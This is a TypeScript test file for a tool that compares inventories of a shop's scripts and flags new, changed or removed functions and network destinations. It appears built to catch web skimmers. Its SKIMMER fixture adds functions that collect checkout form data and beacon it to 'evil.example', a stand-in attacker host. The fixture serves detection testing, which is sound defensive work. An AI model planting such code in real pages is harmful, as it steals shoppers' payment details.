import { describe, expect, test } from 'vitest';
import { NO_BEHAVIOUR } from './behaviour.ts';
import { compareInventories, type KeptScript, keptInventory, knownBy } from './kept-inventory.ts';
import { readScript, shapeOf } from './read-units.ts';

const shaOf = (source: string): string => Buffer.from(source).toString('hex').padEnd(64, '0').slice(0, 64);

const contentOf = (source: string, inline = false) => {
  const read = readScript(source, { inline });
  const units = read.kind === 'read' ? read.units : undefined;
  const notParsed = read.kind === 'read' ? undefined : read.reason;
  return { sha256: shaOf(source), shape: units === undefined ? `whole ${source}` : shapeOf(units), units, notParsed };
};

const file = (source: string, changes: Partial<KeptScript> = {}): KeptScript => ({
  ...{ slot: 'file https://shop.example/a.js', url: 'https://shop.example/a.js', inline: false },
  ...{ behaviour: NO_BEHAVIOUR, contents: [contentOf(source)], ...changes },
});

const inline = (source: string, page: string): KeptScript =>
  file('', {
    ...{ slot: `inline ${contentOf(source, true).shape}`, url: `https://shop.example${page}`, inline: true },
    contents: [contentOf(source, true)],
  });

const namesOf = (units: readonly { readonly name: string | undefined }[]) => units.map(({ name }) => name);

const SHOP = `function total(lines) { return lines.reduce((sum, { price }) => sum + price, 0); }
function pay(form) { form.submit(); }`;
const SKIMMER = `${SHOP.replace('form.submit()', 'form.requestSubmit()')}
function take(form) { return new FormData(form); }
function send(data) { navigator.sendBeacon('https://evil.example', data); }`;

describe('two inventories', () => {
  test('functions by name: new, changed and gone, each in its script', () => {
    const [difference, ...others] = compareInventories([file(SHOP)], [file(SKIMMER)]);
    expect(others).toEqual([]);
    expect(difference).toMatchObject({ state: 'changed', url: 'https://shop.example/a.js', removed: [], same: 2 });
    expect(namesOf(difference?.added ?? [])).toEqual(['take', 'send']);
    expect(difference?.changed.map(({ before, after }) => [before.name, after.name])).toEqual([['pay', 'pay']]);
    const [back] = compareInventories([file(SKIMMER)], [file(SHOP)]);
    expect(namesOf(back?.removed ?? [])).toEqual(['take', 'send']);
  });

  test('space, names of variables and data of the page are no difference', () => {
    expect(compareInventories([file(SHOP)], [file(SHOP.replaceAll('lines', 'rows').replaceAll('\n', ' '))])).toEqual(
      [],
    );
    const [one, other] = [inline('var nonce = "a1b2";', '/orders/1'), inline('var nonce = "c3d4";', '/orders/2')];
    expect(compareInventories([one], [other])).toEqual([]);
  });

  test('inline scripts that a template joins anew are none either; what is new in one is told with its page', () => {
    const [a, b] = ['function one() { go(1); }', 'function two() { go(2); }'];
    expect(compareInventories([inline(a, '/'), inline(b, '/')], [inline(`${a}\n${b}`, '/')])).toEqual([]);
    const [difference] = compareInventories([inline(a, '/')], [inline(a, '/'), inline(b, '/pay')]);
    expect(difference).toMatchObject({ inline: true, url: undefined, state: 'changed' });
    expect(difference?.added).toMatchObject([{ name: 'two', url: 'https://shop.example/pay' }]);
  });

  test('what a script does now and did not, and the other way round', () => {
    const then = file(SHOP, { behaviour: { ...NO_BEHAVIOUR, destinations: ['old.example'], evaluates: true } });
    const now = file(SHOP, { behaviour: { ...NO_BEHAVIOUR, destinations: ['new.example'], listens: ['field input'] } });
    expect(compareInventories([then], [now])).toMatchObject([
      {
        ...{ state: 'changed', added: [], removed: [], changed: [] },
        does: { destinations: ['new.example'], listens: ['field input'], evaluates: false },
        doesNoMore: { destinations: ['old.example'], listens: [], evaluates: true },
      },
    ]);
  });

  test('scripts that came and went, and one that nobody can read', () => {
    const other = file('go();', { slot: 'file https://shop.example/b.js', url: 'https://shop.example/b.js' });
    expect(compareInventories([file(SHOP)], [other]).map(({ url, state }) => [url, state])).toEqual([
      ['https://shop.example/a.js', 'gone'],
      ['https://shop.example/b.js', 'new'],
    ]);
    expect(compareInventories([file(SHOP)], [file('function (')])).toMatchObject([{ notParsed: 'syntax' }]);
  });
});

test('what was read for the earlier scan is known by it, and is kept on', () => {
  const earlier = [file(SHOP)];
  const known = knownBy(earlier, { hosts: ['shop.example'], hasBaseline: true });
  const [content] = earlier[0]?.contents ?? [];
  expect(known.scripts.get('file https://shop.example/a.js')).toMatchObject({
    contents: new Map([[content?.sha256, content?.shape]]),
    shapes: new Set([content?.shape]),
  });
  expect(known.scripts.get('file https://shop.example/a.js')?.units).toHaveLength(3);
  const unread = { ...content, shape: content?.shape ?? '', sha256: content?.sha256 ?? '', bytes: 1, signs: undefined };
  const seen = { ...file(''), loadedBy: { kind: 'unknown' as const } };
  const stock = [{ ...seen, contents: [{ ...unread, units: undefined, notParsed: undefined }] }];
  expect(keptInventory(stock, earlier)[0]?.contents[0]?.units).toEqual(content?.units);
});
